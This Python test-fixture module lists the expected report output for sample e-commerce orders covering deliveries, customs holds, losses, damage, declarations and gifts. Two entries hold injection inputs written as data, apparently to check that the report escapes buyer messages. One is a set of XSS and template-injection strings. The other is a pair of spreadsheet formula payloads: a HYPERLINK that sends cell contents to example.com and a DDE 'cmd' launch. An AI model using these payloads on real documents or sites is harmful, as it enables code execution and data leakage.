"""What each story of the sample shop is about, as a report has to tell it.

``state`` is the one-line state. ``says`` are findings (check without its stage, code, level); ``never`` are
codes that would be wrong. ``words`` stand in the report, ``ready`` are dispute reasons that it can answer, ``open``
ones that it cannot. ``against`` are the reasons for which the record proves the buyer right, exactly these.
"""

from __future__ import annotations

from dataclasses import dataclass

Said = tuple[str, str, str]


@dataclass(frozen=True)
class Expected:
    state: str
    says: tuple[Said, ...] = ()
    never: tuple[str, ...] = ()
    words: tuple[str, ...] = ()
    ready: tuple[str, ...] = ()
    open: tuple[str, ...] = ()
    against: tuple[str, ...] = ()
    nothing_wrong: bool = False


STORIES = {
    # Clean.
    "17-13001-55821": Expected(
        "Delivered on 2026-09-12", says=(("monitoring.promise", "kept", "pass"),), words=("Mary Okafor", "Portland"),
        ready=("item_not_received", "damaged_defective", "not_as_described"), nothing_wrong=True,
    ),
    # Slow.
    "21-13014-20477": Expected(
        "Delivered on 2026-10-21",
        says=(("monitoring.promise", "broken", "warn"), ("communication.carrier_inquiry", "answered", "pass")),
        words=("Waiting for air capacity to Brazil", "You may wait, or choose a refund", "São Paulo"),
        against=("late_delivery",),
    ),
    # Short quantity claim, answered by weights.
    "09-13022-91364": Expected(
        "Delivered on 2026-09-30",
        says=(
            ("delivery_receipt.packed_weight", "ok", "pass"), ("delivery_receipt.scanned_weight", "ok", "pass"),
            ("delivery_receipt.on_scale", "done", "pass"),
        ),
        words=("560 g", "包裹里只有五双袜子", "王小明"), ready=("wrong_quantity_missing_parts",),
    ),
    # High value without signature.
    "05-13040-71180": Expected(
        "Delivered on 2026-10-10",
        says=(
            ("shipping_choice.signature", "missing_sent", "warn"), ("communication.answered", "unanswered", "warn"),
            ("communication.complaint", "complaint_open", "warn"),
        ),
        words=("A9-2207-0418", "Signature of the receiver"), open=("item_not_received",),
    ),
    # Untracked.
    "14-13052-33905": Expected(
        "No tracking on record",
        says=(("shipping_choice.tracked", "untracked", "warn"), ("monitoring.imported", "missing", "warn")),
        never=("delivered", "end_to_end", "fresh"), words=("Ordinary Small Packet",), open=("item_not_received",),
        against=("late_delivery",),
    ),
    # Script tags in a message.
    "11-13063-48216": Expected(
        "Delivered on 2026-10-18",
        says=(("communication.answered", "answered", "pass"), ("description.functions", "explained", "pass")),
        words=(
            "<script>alert('not as described')</script>", "<img src=x onerror=alert(1)> {{7*7}} ${7*7} </td></table>",
            "Robert \"Bobby\" O'Neil <b>",
        ),
    ),
    # Delivered to a locker: not with the buyer, and not silent either.
    "03-13071-66402": Expected(
        "Waiting for pickup",
        says=(
            ("monitoring.standing", "waiting_for_pickup", "warn"), ("monitoring.silence", "waits_for_buyer", "pass"),
            ("monitoring.delivered_by", "not_delivered", "note"),
        ),
        never=("delivered", "arrived", "kept", "stale"), open=("item_not_received",),
    ),
    # A photo used for two orders: the first.
    "08-13080-17759": Expected(
        "Delivered on 2026-09-26", says=(("delivery_receipt.reuse", "reused", "fail"),), words=("etsy-3481163377",),
        against=("not_as_described", "damaged_defective", "wrong_quantity_missing_parts"),
    ),
    # Failed attempt, then collected and signed for.
    "12-13094-50631": Expected(
        "Delivered on 2026-10-20",
        says=(("monitoring.standing", "delivered", "pass"),),
        words=("Delivery was tried", "Thanks, I will pick it up"),
        ready=("item_not_received",),
    ),
    # Stuck in customs.
    "#1041": Expected(
        "Held by customs",
        says=(
            ("monitoring.customs", "open_hold", "warn"), ("communication.answered", "unanswered", "warn"),
            ("communication.carrier_inquiry", "missing", "warn"),
        ),
        never=("delivered", "clear"), words=("נועה ברק", "They want an invoice from you"),
    ),
    # Delivered back to the sender: not a delivery.
    "#1044": Expected(
        "Back with the sender",
        says=(("monitoring.standing", "returned", "warn"), ("monitoring.delivered_by", "not_delivered", "note")),
        never=("delivered", "kept"), words=("Анна Сергеевна Волкова", "Посылка ждёт вас на почте"),
        open=("item_not_received",), against=("refund_not_processed",),
    ),
    # Damaged on the way.
    "#1047": Expected(
        "Delivered on 2026-10-01",
        says=(
            ("delivery_receipt.before_packing", "done", "pass"), ("delivery_receipt.after_packing", "done", "pass"),
            ("packaging.photos", "done", "pass"), ("communication.carrier_inquiry", "answered", "pass"),
            ("monitoring.problems", "asked", "warn"), ("communication.complaint", "complaint_answered", "note"),
        ),
        never=("none",),
        words=(
            "1 thing to take care of", "Lille, France (FR)", "Outer packaging damaged",
            "la théière est arrivée cassée", "REK-2026-118204",
        ),
        against=("damaged_defective",),
    ),
    # Wrong address.
    "#1052": Expected(
        "Problem on the way",
        says=(("monitoring.standing", "exception", "warn"), ("communication.delay_told", "not_told", "warn")),
        never=("delivered",), words=("Address incomplete: house number missing", "Jürgen Weiß"),
    ),
    # A message like a spreadsheet formula.
    "#1055": Expected(
        "On its way",
        words=('=HYPERLINK("http://example.com/x?"&A1,"Click")', "-2+3+cmd|' /C calc'!A0", "خالد المنصوري"),
        never=("delivered",),
    ),
    # Lost: the buyer heard of the delay and not of the loss.
    "113-4482917-5530264": Expected(
        "Lost",
        says=(
            ("monitoring.standing", "lost", "warn"), ("communication.carrier_inquiry", "answered", "pass"),
            ("communication.delay_told", "not_told", "warn"), ("monitoring.claim_window", "claimed", "pass"),
        ),
        never=("delivered", "kept"), words=("Search closed without result", "INQ-77310254"),
        against=("item_not_received", "late_delivery"),
    ),
    # Counterfeit claim with papers.
    "114-9063351-2207418": Expected(
        "Delivered on 2026-10-08",
        says=(
            ("authenticity.proof", "done", "pass"), ("authenticity.validity", "valid", "pass"),
            ("authenticity.chain", "complete", "pass"), ("description.consistency", "same", "pass"),
            ("description.complete", "complete", "pass"), ("inspection.units", "every_unit", "pass"),
            ("inspection.steps", "done", "pass"), ("inspection.lot", "accepted", "pass"),
        ),
        words=("Shenzhen Haoyuan Electronics Trading", "200 pieces", "Nordvolt AB", "valid to 2027-01-11"),
        ready=("counterfeit",),
    ),
    # Not as described: another version was packed.
    "111-5528093-7140226": Expected(
        "Delivered on 2026-10-24",
        says=(
            ("description.consistency", "differs", "warn"), ("inspection.steps", "failed_passed_sent", "fail"),
            ("inspection.parts", "missing_sent", "fail"), ("description.snapshot", "done", "pass"),
        ),
        never=("same", "reused"), words=("P2BK-118340", "13 Wh", "7.4 Wh", "without USB-C cable", "there is no cable",
               "Your own record speaks against you", "For 4 reasons your own record speaks against you"),
        against=(
            "not_as_described", "damaged_defective", "wrong_quantity_missing_parts", "customs_seizure_refused_duties",
        ),
    ),
    # Two articles in one parcel.
    "249-6617740-8102935": Expected(
        "Delivered on 2026-10-26", says=(("declaration.quantity", "matches", "pass"),),
        words=("Wireless Earphones with Charging Case", "Phone Case", "W5A0099207", "山田 花子"),
        ready=("item_not_received",),
    ),
    # Under-declared, nobody asked.
    "112-7750183-4429061": Expected(
        "Delivered on 2026-10-24",
        says=(("declaration.value", "under_declared", "fail"), ("declaration.value", "no_buyer_consent", "fail")),
        never=("truthful", "buyer_consent_recorded"), words=("USD 35.00",), against=("customs_seizure_refused_duties",),
    ),
    # A gift that is all in order.
    "3471902846": Expected(
        "Delivered on 2026-09-22",
        says=(("gifts.agreed", "on_page", "pass"), ("gifts.declared", "declared", "pass")),
        never=("gift_undeclared", "gift_not_on_page_unconfirmed"), words=("Brass wick trimmer",),
        ready=("gift_substitution_changed",),
    ),
    # A gift that nobody confirmed.
    "3475518093": Expected(
        "Delivered on 2026-10-29",
        says=(
            ("gifts.agreed", "gift_not_on_page_unconfirmed", "warn"), ("gifts.allowed", "gift_restricted", "fail"),
        ),
        never=("on_page", "confirmed"), words=("Sample box of matches",), open=("gift_substitution_changed",),
        against=("customs_seizure_refused_duties",),
    ),
    # A gift that is not on the form.
    "3479920415": Expected(
        "Delivered on 2026-11-04",
        says=(("gifts.declared", "gift_undeclared", "fail"), ("gifts.agreed", "confirmed", "pass")),
        never=("declared",), words=("Knitted doll jumper",), against=("customs_seizure_refused_duties",),
    ),
    # A photo used for two orders: the second.
    "3481163377": Expected(
        "Delivered on 2026-11-11", says=(("delivery_receipt.reuse", "reused", "fail"),), words=("ebay-08-13080-17759",),
        against=("not_as_described", "damaged_defective", "wrong_quantity_missing_parts"),
    ),
    # Refused.
    "578912304417760291": Expected(
        "On its way back", says=(("monitoring.standing", "returning", "warn"),), never=("delivered",),
        words=("refused the parcel",), open=("item_not_received",),
    ),
    # A power bank, declared with its watt hours.
    "578912311902845573": Expected(
        "Delivered on 2026-11-11", says=(("declaration.on_record", "done", "pass"),),
        words=("37 Wh", "Battery Line"), nothing_wrong=True,
    ),
    # Under-declared with the buyer's consent: still not true.
    "578912318846620417": Expected(
        "In customs",
        says=(
            ("declaration.value", "under_declared", "fail"), ("declaration.value", "buyer_consent_recorded", "note"),
        ),
        never=("truthful", "no_buyer_consent"), words=("por favor declara solo 20 dólares",),
        against=("customs_seizure_refused_duties",),
    ),
    # A new order.
    "578912325571098836": Expected("Accepted by the carrier", never=("delivered",), words=("Lucía Fernández",)),
}  # fmt: skip
